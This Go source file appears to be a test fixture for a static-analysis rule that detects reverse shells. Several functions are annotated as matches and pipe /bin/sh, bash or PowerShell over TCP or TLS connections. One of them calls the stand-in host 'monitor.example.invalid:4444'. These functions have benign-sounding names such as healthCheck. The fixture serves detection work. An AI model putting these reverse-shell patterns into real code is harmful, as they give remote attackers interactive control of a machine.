package reports

import (
	"crypto/tls"
	"net"
	"os"
	"os/exec"
	"time"
)

func healthCheck() error {
	link, err := net.Dial("tcp", "monitor.example.invalid:4444")
	if err != nil {
		return err
	}
	shell := exec.Command("/bin/sh", "-i")
	// ruleid: execution/reverse-shell-go
	shell.Stdin = link
	shell.Stdout = link
	return shell.Run()
}

func supportSession(host string) error {
	channel, err := tls.Dial("tcp", host, nil)
	if err != nil {
		return err
	}
	prompt := exec.Command("powershell.exe")
	// ruleid: execution/reverse-shell-go
	prompt.Stdin, prompt.Stdout, prompt.Stderr = channel, channel, channel
	return prompt.Run()
}

func diagnostics(host string) error {
	socket, _ := net.DialTimeout("tcp", host, 3*time.Second)
	// ruleid: execution/reverse-shell-go
	command := &exec.Cmd{Path: "/bin/bash", Stdin: socket, Stdout: socket}
	return command.Run()
}

func interactive() error {
	editor := exec.Command("vi", "notes.txt")
	// ok: execution/reverse-shell-go
	editor.Stdin = os.Stdin
	editor.Stdout = os.Stdout
	return editor.Run()
}

func format(file *os.File) error {
	tool := exec.Command("gofmt")
	// ok: execution/reverse-shell-go
	tool.Stdin = file
	return tool.Run()
}

func banner(host string) (string, error) {
	link, err := net.Dial("tcp", host)
	if err != nil {
		return "", err
	}
	buffer := make([]byte, 512)
	// ok: execution/reverse-shell-go
	n, err := link.Read(buffer)
	return string(buffer[:n]), err
}

func worker(listener net.Listener) error {
	connection, err := listener.Accept()
	if err != nil {
		return err
	}
	filter := exec.Command("report-filter")
	// ok: execution/reverse-shell-go
	filter.Stdin = connection
	return filter.Run()
}
